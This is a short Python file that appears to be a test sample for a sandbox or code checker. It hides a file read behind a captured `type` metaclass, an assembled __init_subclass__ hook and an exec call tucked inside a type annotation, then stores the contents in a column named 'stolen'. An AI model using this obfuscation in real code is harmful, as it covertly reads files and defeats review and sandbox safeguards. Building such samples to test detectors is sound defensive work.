# class: class_def
# technique: a base class made with the captured metaclass (Grab() == type(int)) with a run-time __init_subclass__; a later subclass creation (also through the name) runs the payload implicitly
# goal: read
import typing

import numpy as np
import pandas as pd


class Grab:
    """Records whatever it is compared with."""

    def __eq__(self, other):
        grabbed.append(other)
        return False

    def __hash__(self):
        return 0


grabbed = []
Grab() == type(int)
make = grabbed[0]
scope = {"path": "{{CANARY_FILE}}"}
source = "data = open(path).read()"


def probe(x: "[exec(source, scope), int][-1]"):
    return x


Base = make("Base", (), {"_" * 2 + "init_subclass" + "_" * 2: classmethod(lambda cls, **kw: typing.get_type_hints(probe))})
make("Child", (Base,), {})
df = pd.DataFrame({"stolen": [scope["data"]]})
